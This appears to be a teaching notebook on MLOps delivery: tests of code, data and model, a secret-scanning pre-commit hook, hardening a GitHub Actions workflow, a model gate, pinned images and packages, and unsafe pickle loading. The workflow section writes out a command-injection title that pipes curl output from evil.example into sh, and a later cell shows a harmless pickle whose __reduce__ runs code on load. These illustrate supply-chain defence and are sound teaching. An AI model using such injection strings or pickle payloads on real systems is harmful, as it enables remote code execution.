# ---
# jupyter:
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
"""
# Delivery

A change is made on a laptop; a week later it decides about passengers. In this lesson you build what lies between: tests of code, data and model, a workflow that runs them, a gate, and locks on all that comes in from outside.
"""

# %% [markdown]
"""
## A small system with three kinds of tests
<!-- objective: test_the_parts -->

The connection desk keeps a fallback for the hours when the service is down: a table with the share of late flights for each hour of the day. It is a model, only a small one. You will deliver it properly, in a repository of its own in a temporary folder.

Its data is every fourth flight of April. A cancelled flight has no delay.
"""

# %%
from pathlib import Path
from tempfile import TemporaryDirectory

from flightdelay.data import load_flights
from groundschool import quiz

temporary = TemporaryDirectory()
clone = Path(temporary.name)
april = load_flights(4).iloc[::4]
table = april[["hour", "dep_delay"]].rename(columns={"dep_delay": "delay"})
table.to_csv(clone / "flights.csv", index=False)
table.describe().loc[["count", "min", "max"]].astype(int)

# %% [markdown]
"""
Now the program. It trains when it is called with `train` and answers for an hour when it is called with `ask`. The standard library is enough for it.
"""

# %%
program = """\
import csv, json, sys
def is_late(minutes):
    return minutes > 15
def train(rows):
    hours = {}
    for row in rows:
        if row["delay"]:
            hours.setdefault(row["hour"], []).append(is_late(float(row["delay"])))
    return {hour: sum(late) / len(late) for hour, late in sorted(hours.items())}
def read(path):
    with open(path) as file: return list(csv.DictReader(file))
"""
_ = (clone / "desk.py").write_text(program)  # `_ =` keeps the number of letters off the screen

# %% [markdown]
"""
Tests of *code* check rules on examples that one can work out by hand. Tests of *data* check what arrives. Tests of the *model* train it and ask what any sound model of this kind must show, whatever the month [@effective_testing_for_ml_systems].
"""

# %%
tests = {
    "test_code.py": """\
from desk import is_late
def test_late_is_more_than_15_minutes():
    assert [is_late(15), is_late(16)] == [False, True]
""",
    "test_data.py": """\
from desk import read
def test_hours_are_hours_and_delays_are_minutes():
    rows = read("flights.csv")
    assert len(rows) > 1000 and all(0 <= int(row["hour"]) < 24 for row in rows)
    assert all(-120 <= float(row["delay"] or 0) <= 2880 for row in rows)
""",
}

# %%
tests["test_model.py"] = """\
from desk import read, train
def test_evenings_are_worse_than_mornings():
    model = train(read("flights.csv"))
    assert model["20"] > 2 * model["6"]
def test_the_same_data_gives_the_same_model():
    rows = read("flights.csv")
    assert train(rows) == train(rows[::-1])
"""
for name, text in tests.items():
    (clone / name).write_text(text)

# %% [markdown]
"""
Passing tests say little until you know what makes them fail. So plant six faults, one at a time, run all tests, and put the file back.

:::{question}
Which of the three files will find each fault? One fault gets past all of them. Which?
:::
"""

# %%
faults = {
    "15 minutes count as late": ("desk.py", "> 15", ">= 15"),
    "delays arrive in seconds": ("flights.csv", r",(-?\d+)", lambda delay: f",{60 * int(delay[1])}"),
    "an hour 24 arrives": ("flights.csv", "\n23,", "\n24,"),
    "late and on time swapped": ("desk.py", r"sum\(late\)", "1 - sum(late)"),
    "only the last flight of an hour counts": ("desk.py", r"sum\(late\) / len\(late\)", "late[-1]"),
    "cancelled counts as on time": (
        "desk.py",
        r"if row\[.delay.\]",
        'if row.setdefault("delay", 0) or row.update(delay=0) is None',
    ),
}

# %%
import re
import subprocess
import sys

from flightdelay.ci import clean_environment

CLEAN = clean_environment(PYTEST_DISABLE_PLUGIN_AUTOLOAD="1", PRE_COMMIT_HOME=str(clone / ".git/hooks-home"))


def call(*command):
    return subprocess.run(command, cwd=clone, env=CLEAN, capture_output=True, text=True, check=False)


def failing_files():
    said = call(sys.executable, "-m", "pytest", "-q", "--tb=no", "-p", "no:cacheprovider").stdout
    return sorted(set(re.findall(r"^(?:FAILED|ERROR) (test_\w+)\.py", said, flags=re.MULTILINE)))


# %%
import pandas as pd


def found_by(file, old, new):
    sound = (clone / file).read_text()
    (clone / file).write_text(re.sub(old, new, sound))
    found = failing_files()
    (clone / file).write_text(sound)
    return ", ".join(found) or "nobody"


found = {"no fault": ", ".join(failing_files()) or "nobody"}
found |= {name: found_by(*fault) for name, fault in faults.items()}
pd.Series(found).to_frame("found by")

# %% [markdown]
"""
Each kind of test sees what the others cannot. Seconds for minutes are no fault of the code; a swapped answer passes each check of the data. And counting cancelled flights as on time breaks nothing that anybody thought of: the table only becomes a little too hopeful.

A test that would find it needs no expected number. It says what must *not* matter: adding cancelled flights leaves the model as it is. Such tests of training code belong to the specification of a model as much as its features do [@ml_test_score].
"""

# %%
tests["test_model.py"] += """\
def test_cancelled_flights_change_nothing():
    rows = read("flights.csv")
    assert train(rows + [{"hour": "20", "delay": ""}] * 50) == train(rows)
"""
_ = (clone / "test_model.py").write_text(tests["test_model.py"])
found_by(*faults["cancelled counts as on time"])

# %%
quiz("delivery", "which_test_sees_it")

# %% [markdown]
"""
## The first check is on your own machine
<!-- objective: keep_strangers_out -->

The repository gets its first commit, made in a hurry: with a file of settings that contains a key. (It is the example key from Amazon's own manual and opens nothing.) A day later somebody notices and removes it.

:::{question}
Where is the key after the second commit: nowhere, in the older commit on this machine, or in each clone?
:::
"""

# %%
KEY = "AKIA" + "IOSFODNN7EXAMPLE"
mail = ("-c", "user.name=Learner", "-c", "user.email=learner@example.org")
settings = clone / "settings.py"
call("git", "init", "-q")
for text, message in ((f"KEY = '{KEY}'\n", "Settings of the desk"), ("KEY = None\n", "No key in here")):
    settings.write_text(text)
    call("git", "add", "*.py", "*.csv")
    call("git", *mail, "commit", "-q", "-m", message)
print("in the files: ", KEY in settings.read_text())
print(call("git", "log", "--reverse", "--format=in the history: %s", f"-S{KEY}").stdout)

# %% [markdown]
"""
Both commits are listed: the one that brought the key and the one that took it away, and whoever clones the repository gets them. Removing a secret from a file does not unsay it. The cure is to *revoke* it where it was issued; rewriting history comes after that, if at all [@pro_git]. Settings that differ from place to place, keys above all, belong in the environment [@twelve_factor_app].

Better to stop it at the door. *pre-commit* runs checks each time you commit. Hooks usually come from repositories on the net; a `local` one is written right here.
"""

# %%
hooks = """\
repos:
  - repo: local
    hooks:
      - {id: keys, name: no keys in files, language: pygrep, entry: "AKIA[0-9A-Z]{16}", files: ""}
      - {id: tests, name: tests of the code, language: system, entry: python -m pytest -q test_code.py,
         types: [python], pass_filenames: false}
"""
(clone / ".pre-commit-config.yaml").write_text(hooks)
call("git", "add", ".pre-commit-config.yaml")
print(call("pre-commit", "install").stdout.split(" at ")[0])
settings.write_text(f"KEY = '{KEY}'\n")
call("git", "add", "settings.py")
refused = call("git", *mail, "commit", "-q", "-m", "The key again")
print(re.sub(r"\n- duration.*", "", refused.stdout + refused.stderr))

# %% [markdown]
"""
The commit was refused. But a hook is a courtesy: it lives in one clone, and `git commit --no-verify` passes it by. What has to hold for everybody is checked again where nobody can skip it.
"""

# %%
settings.write_text("KEY = None\n")
call("git", "add", "settings.py")
call("git", *mail, "commit", "-q", "-m", "Hooks for everybody")
call("git", "log", "--format=%s").stdout.splitlines()

# %% [markdown]
"""
## A workflow that anybody can start
<!-- objective: keep_strangers_out -->

That place is the *workflow*: a file in the repository that says which jobs a hired machine runs on which event [@github_actions]. A colleague has written one. It should greet whoever proposes a change, and run the tests.
"""

# %%
careless = """\
name: ci
on: pull_request_target
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: write-all
    steps:
      - uses: actions/checkout@v4
      - run: echo "Thank you for ${{ github.event.pull_request.title }}"
      - run: python -m pytest -q
"""
workflows = clone / ".github" / "workflows"
workflows.mkdir(parents=True, exist_ok=True)
path = ".github/workflows/ci.yml"
(clone / path).write_text(careless)
print(call("check-jsonschema", "--builtin-schema", "vendor.github-workflows", path).stdout)

# %% [markdown]
"""
The schema is content: each key is known and each value has the right type. Now zizmor, a linter that reads workflows as an attacker would [@zizmor].

:::{question}
Eleven lines. How many things could a stranger make use of? Name two before you run it.
:::
"""

# %%
import json

pd.options.display.max_colwidth = 120


def lint(text):
    (workflows / "ci.yml").write_text(text)
    said = call("zizmor", "--offline", "--no-progress", "--format", "json", path).stdout
    rows = [(each["ident"], each["determinations"]["severity"], each["desc"]) for each in json.loads(said)]
    return pd.DataFrame(sorted(set(rows)), columns=["finding", "severity", "what it says"]).set_index(
        "finding"
    )


lint(careless)

# %% [markdown]
"""
Put them together. Anybody with an account may propose a change (`pull_request_target` starts the job with *our* rights), and its title is pasted into a script before the script runs. A title such as `"; curl evil.example | sh; "` becomes part of the program, with a token that may write everything. `@v4` is a label that its owner, or whoever has stolen his account, can move to other code tomorrow.

The mended workflow takes the event without rights, grants what it needs, pins each action by the digest of its commit, and runs three jobs in order.
"""

# %%
CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"
job = f"    runs-on: ubuntu-24.04\n    steps:\n      - uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n"
mended = f"""\
name: ci
on: pull_request
permissions: {{contents: read}}
concurrency: {{group: ci, cancel-in-progress: true}}
env: {{PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1", PYTEST_ADDOPTS: "-q --tb=no --no-header -p no:cacheprovider"}}
jobs:
  model:
    needs: [code, data]
{job}      - {{name: test the model, run: python -m pytest test_model.py}}
  code:
{job}      - {{name: test the code, run: python -m pytest test_code.py}}
  data:
{job}      - {{name: test the data, run: python -m pytest test_data.py}}
"""
lint(mended).index.tolist()

# %%
quiz("delivery", "title_in_a_script")

# %% [markdown]
"""
## Run it, and let it stop
<!-- objective: run_the_workflow -->

No finding is left. A hired machine is not needed to run it: `flightdelay.ci` reads the file, puts the jobs in the order of their `needs`, and starts each `run:` step in turn, in a clean environment. It passes actions over, and it refuses what it does not understand, such as expressions, pipes or a matrix: half a run would look like a whole one.

Before you run it, put a fault in: delays in seconds.

:::{question}
Written first in the file is `model`, then `code` and `data`. Which steps will run, and in what order?
:::
"""

# %%
from flightdelay.ci import plan, read_workflow, run


def verdicts():
    results = run(plan(read_workflow(workflows / "ci.yml")), clone)
    return [
        f"{each.step.job}: {each.step.name.split('@')[0]}: {'ok' if each.passed else 'FAILED'}"
        for each in results
    ]


sound = (clone / "flights.csv").read_text()
(clone / "flights.csv").write_text(re.sub(*faults["delays arrive in seconds"][1:], sound))
verdicts()

# %% [markdown]
"""
`code` and `data` need nothing, so they come first; `model` needs both and never starts. The order is no matter of taste. Cheap checks before dear ones, and nothing is trained on data that a test has refused. On hired machines `code` and `data` would run side by side.

Mend the data, and the whole run passes.
"""

# %%
(clone / "flights.csv").write_text(sound)
verdicts()

# %% [markdown]
"""
This is *continuous integration*: each change, of code, of data or of a model's settings, meets the same checks, run by a machine, before it joins the rest [@continuous_delivery_for_ml]. It is also where a review is kept honest. The reviewer reads what the change *means*; the machine has already run it.
"""

# %%
quiz("delivery", "order_of_jobs")

# %% [markdown]
"""
## A model that crashes nothing
<!-- objective: gate_and_deliver -->

Tests of the model ask what any sound model shows. Whether *this* model may replace the one in service is another question, and a *gate* answers it: on flights that neither was trained on, against what was promised [@ml_test_score].

The model in service knows the schedule. Three challengers are trained on the same months and know the weather too. All three start, answer and have a good AUC.
"""

# %%
from flightdelay.evaluate import by_slice, score
from flightdelay.features import SCHEDULE_FEATURES, SERVED_FEATURES
from flightdelay.model import risk, train
from flightdelay.replay import year_of_frames
from flightdelay.requirements import requirements

frames = year_of_frames(share=0.15, months=(2, 3, 4, 5))
past, may = pd.concat([frames[month] for month in (2, 3, 4)], ignore_index=True), frames[5]

# %%
at_jfk = past["origin"] == "JFK"
shifted = past.copy()
shifted.loc[at_jfk, "late"] = past.loc[at_jfk, "late"].to_numpy()[::-1]
models = {
    "champion": train(past, SCHEDULE_FEATURES),
    "weather": train(past, SERVED_FEATURES),
    "late flights three times": train(pd.concat([past, *[past[past["late"]]] * 2]), SERVED_FEATURES),
    "JFK joined wrongly": train(shifted, SERVED_FEATURES),
}

# %% [markdown]
"""
The second has each late flight three times in its training, "so that it takes them seriously". For the third somebody joined the outcomes of JFK by their position in the file, and that file was sorted the other way round.

:::{question}
The gate asks for an AUC no lower than the champion's, and for predicted over observed from {{requirements().quality.predicted_over_observed.least}} to {{requirements().quality.predicted_over_observed.most}}. Which challengers pass?
:::
"""

# %%
from flightdelay.gate import decide

risks = {name: risk(model, may) for name, model in models.items()}
scores = {name: score(may["late"], given) for name, given in risks.items()}
rows = {}
for name, found in scores.items():
    verdict = decide(found, scores["champion"], requirements())
    rows[name] = [round(found.auc, 2), round(found.predicted_over_observed, 2), "; ".join(verdict.reasons)]
pd.DataFrame.from_dict(rows, orient="index", columns=["AUC", "predicted / observed", "refused because"])

# %% [markdown]
"""
The gate stops the model that cries wolf: an AUC of {{scores["late flights three times"].auc:.2f}}, and {{scores["late flights three times"].predicted_over_observed:.1f}} predicted for each late flight. The AUC looks at ranks only, and a rank does not change when all risks rise. The desk compares risks with a threshold, and would move passengers from half the timetable.
"""

# %%
from flightdelay.evaluate import reliability
from flightdelay.figures import figure, show

fig, ax = figure(
    "The same ranks, other risks (May)", x="mean risk of a tenth of the flights", y="share that was late"
)
ax.plot([0, 0.8], [0, 0.8], color="grey", linewidth=1)
for name, style in (("weather", "o-"), ("late flights three times", "s--")):
    tenths = reliability(may["late"], risks[name])
    ax.plot(tenths["predicted"], tenths["observed"], style, label=name)
ax.legend(loc="upper left")
worst = reliability(may["late"], risks["late flights three times"]).iloc[-1]
alt = f"The weather model stays near the diagonal. The other lies far to the right of it: where it says {worst['predicted']:.0%}, {worst['observed']:.0%} were late."
show(fig, alt=alt)

# %% [markdown]
"""
The model with JFK's outcomes mixed up *passes*. Nothing is wrong with it on the whole.

:::{question}
A third of the flights leave from JFK. What will its AUC be there, and what does the champion reach?
:::
"""

# %%
airports = pd.DataFrame(
    {name: by_slice(may, given, "origin")["auc"] for name, given in risks.items()}
).sort_index()
fig, ax = figure("AUC by airport (May)", x="AUC (0.5 is guessing)", y="")
for name, style in {"champion": "o", "weather": "s", "JFK joined wrongly": "X"}.items():
    ax.plot(airports[name], airports.index, style, markersize=9, label=name)
ax.set_xlim(0.5, 0.85)
ax.legend(loc="lower right")
at = airports.loc["JFK"]
alt = (
    f"At JFK the wrongly joined model has {at['JFK joined wrongly']:.2f}, the champion {at['champion']:.2f}. "
)
show(fig, alt=alt + "At the two other airports it is ahead of the champion.")

# %% [markdown]
"""
{{at["JFK joined wrongly"]:.2f}}: hardly better than a coin, and hidden by the other two airports. Our requirements forbid it (`slice_gap`, at most {{requirements().quality.slice_gap.most}}), but `decide` was given scores over all flights and cannot know. A gate guards what it is shown.

So widen it. The promise is about the distance from the whole to the worst slice. Note the `not … <=`: a slice whose AUC is missing, NaN, must not slip through, and every comparison with NaN is false.
"""


# %%
def reasons_against(name):
    reasons = list(decide(scores[name], scores["champion"], requirements()).reasons)
    gap = scores[name].auc - airports[name].min(skipna=False)
    if not requirements().quality.slice_gap.kept(gap):
        reasons.append(f"{airports[name].idxmin()} lags behind the whole by {gap:.2f}")
    return reasons


pd.Series({name: "; ".join(reasons_against(name)) or "passes" for name in models}).to_frame("verdict")

# %%
quiz("delivery", "equal_ranks_other_risks")

# %% [markdown]
"""
## From the gate to the desk
<!-- objective: gate_and_deliver -->

A model that passed has not arrived. *Delivery* copies it to where it is asked, turns the pointer that says which version serves, and then asks the running system itself: a *smoke test*. Versions stay side by side, so that going back is turning the pointer [@continuous_delivery_for_ml].

Here the store is a folder, and the desk a function that reads whatever version the pointer names.
"""

# %%
import numpy as np

from flightdelay.model_file import load, save

store = clone / "released"
store.mkdir(exist_ok=True)


def desk(flights, prepare=lambda flights: flights):
    return risk(load(store / (store / "champion").read_text()), prepare(flights))


# %%
def deliver(name, ask):
    if reasons := reasons_against(name):
        return "refused: " + "; ".join(reasons)
    before = (store / "champion").read_text()
    save(models[name], store / name)
    (store / "champion").write_text(name)
    known = may.head(200)
    if np.abs(ask(known) - risk(models[name], known)).max() < 1e-6:
        return f"{name} serves"
    (store / "champion").write_text(before)
    return f"smoke test failed, {before} serves again"


# %% [markdown]
"""
Deliver the good model twice. The first time the desk's program fills gaps in the weather with zeros before it asks, a line that somebody added to get rid of a warning. Training never did so.

:::{question}
Will the desk crash, answer wrongly, or answer as before? What can the gate know of it?
:::
"""


# %%
def zeros(flights):
    return flights.fillna(dict.fromkeys(flights.select_dtypes("number"), 0))


save(models["champion"], store / "champion-model")
(store / "champion").write_text("champion-model")
print(deliver("JFK joined wrongly", desk))
print(deliver("weather", lambda flights: desk(flights, zeros)))
print(deliver("weather", desk))

# %% [markdown]
"""
It answers, wrongly, and nothing crashes. The gate judged the model; only a question to the *running* system, with an answer known beforehand, tests the path from data to desk. That is what an integration test is for: each part was right, and the whole was not. At Google, of the outages of a large pipeline over more than ten years, most had nothing to do with machine learning [@how_ml_breaks].
"""

# %% [markdown]
"""
## What runs is what was tested
<!-- objective: pin_what_runs -->

The program is tested, and then installed on another machine, with another Python and other packages. A *container image* ships the program with its system. Its recipe is a Dockerfile: each line adds a layer, and a layer is built again only if its line, its files or a layer below has changed.

:::{question}
Which of the five lines below would you send back in a review, and why?
:::
"""


# %%
def lint_image(recipe):
    (clone / "Dockerfile").write_text(recipe)
    rows = json.loads(call("hadolint", "--format", "json", "Dockerfile").stdout)
    return pd.DataFrame(
        [(row["line"], row["code"], row["message"]) for row in rows], columns=["line", "rule", "message"]
    )


hasty = """\
FROM python:latest
ADD . /app
WORKDIR app
RUN pip install -r /app/requirements.txt
CMD python -m desk serve
"""
lint_image(hasty)

# %% [markdown]
"""
hadolint sees each line. What it cannot see is what matters most. The whole folder is copied *before* the packages are installed, so every change of a comment installs them all again. The program runs as root. And a tag, also one with a number, may point to another image tomorrow; only a digest names bytes.
"""

# %%
careful = f"""\
FROM python:3.13-slim@sha256:{"0123456789abcdef" * 4}
WORKDIR /app
COPY requirements.lock .
RUN pip install --no-cache-dir --require-hashes --only-binary=:all: -r requirements.lock
COPY desk.py .
USER 10001
CMD ["python", "desk.py", "serve"]
"""
root = careful.replace("USER 10001\n", "").replace("@sha256:" + "0123456789abcdef" * 4, "")
{"careful": len(lint_image(careful)), "as root, without a digest": len(lint_image(root))}

# %% [markdown]
"""
No finding for either: a silent linter is no review. (The digest is made up; yours comes from the registry.)

`--require-hashes` does for packages what the digest does for the image. Try it, offline, with a package of our own. A wheel is a zip file; the lock names its version *and* the SHA-256 of its bytes.
"""

# %%
import hashlib
import zipfile


def build_wheel(code):
    wheel = clone / "deskfonts-1.0-py3-none-any.whl"
    info = "deskfonts-1.0.dist-info"
    files = {
        "deskfonts.py": code,
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: deskfonts\nVersion: 1.0\n",
    }
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    files[f"{info}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{info}/RECORD"])
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return hashlib.sha256(wheel.read_bytes()).hexdigest()


lock = f"deskfonts==1.0 --hash=sha256:{build_wheel('SIZE = 12')}\n"
_ = (clone / "requirements.lock").write_text(lock)

# %% [markdown]
"""
Now somebody replaces the file in the mirror: the same name, the same version, one line more.

:::{question}
What will pip do, with hashes and without?
:::
"""


# %%
def install(*options):
    where = ("--no-index", "--find-links", ".", "--target", "installed", "--upgrade", "--no-compile")
    done = call(sys.executable, "-m", "pip", "install", "-q", "--disable-pip-version-check", *where, *options)
    return "installed" if done.returncode == 0 else done.stderr.split(". ")[0].strip()


build_wheel("SIZE = 12\nprint('I read your environment')")
print("without hashes:", install("deskfonts==1.0"))
print("with hashes:   ", install("--require-hashes", "-r", "requirements.lock"))

# %% [markdown]
"""
The version number is a name that anybody can give. The hash is the thing itself. So when two locks are compared in a review, the line to fear is not a new version but the same version with another hash; it belongs in front of a human, and so does each package that nobody asked for [@slsa].

Who runs the system should hear of each such change before it runs. The list of what is in it is called a *bill of materials* (SBOM). Its core is one call away:
"""

# %% tags=["nbval-ignore-output"]
from importlib import metadata

wanted = {
    re.split(r"[^\w.-]", need)[0].lower()
    for need in metadata.requires("scikit-learn") or []
    if "extra" not in need
}
pd.Series({name: metadata.version(name) for name in sorted(wanted | {"scikit-learn"})}).to_frame("version")

# %%
quiz("delivery", "same_version_other_hash")

# %% [markdown]
"""
## A model file is a program
<!-- objective: keep_strangers_out -->

One thing still comes in unchecked: the model. The usual way to keep a Python object is a *pickle*. Its format is a list of instructions, and one of them is "call this function with these arguments".
"""

# %%
import pickle
import pickletools


class Model:
    def __reduce__(self):
        return print, ("A stranger's code runs on your machine.",)


stranger = pickle.dumps(Model())
for code, argument, _position in pickletools.genops(stranger):
    if code.name in {"SHORT_BINUNICODE", "STACK_GLOBAL", "REDUCE"}:
        print(code.name, argument or "")

# %% [markdown]
"""
`pickletools` lists the instructions without following them: fetch `print` from `builtins`, and call it.

:::{question}
We load it with `pickle.loads` and never use the result. When does the function run?
:::
"""

# %%
loaded = pickle.loads(stranger)  # noqa: S301 (our own bytes, and all they can do is print)

# %% [markdown]
"""
At once. No check after loading can come in time, and `print` might have been any function. So the desk's models are kept in the skops format, which holds arrays and names of types, and builds only types that are on a list [@skops]. Hand our loader the pickle, and then a skops file with a type that no model of ours has.
"""

# %%
from skops import io

from flightdelay.model_file import UntrustedModelError

(store / "pickle").write_bytes(stranger)
io.dump({"helper": subprocess.Popen}, store / "odd.skops")
for name in ("pickle", "odd.skops"):
    try:
        load(store / name)
    except UntrustedModelError as error:
        print(str(error)[:96])

# %% [markdown]
"""
Both are refused, and nothing ran. A hash in the registry then says that the file is the one that passed the gate, as for a package. That a model *decides* what it was trained to decide is a third question, and no file format answers it: training data can be poisoned too [@mitre_atlas].
"""

# %%
quiz("delivery", "when_a_pickle_runs")

# %%
temporary.cleanup()

# %% [markdown]
"""
## What to keep

- Tests of code, data and model see different faults. Plant faults to learn which, and add the test that says what must not matter.
- A workflow is a program that strangers can start: no untrusted text in a script, few rights, actions pinned by digest. Run it, cheap checks first, and stop at the first failure.
- A gate guards what it is shown: ranks, calibration and the worst slice, and NaN never passes. After delivery ask the running system, and keep the way back open.
- Pin packages and images by the hash of their bytes. The same version with another hash is an alarm.
- A secret in the history is out, and a pickle is a program. Revoke the one and do not load the other.
"""
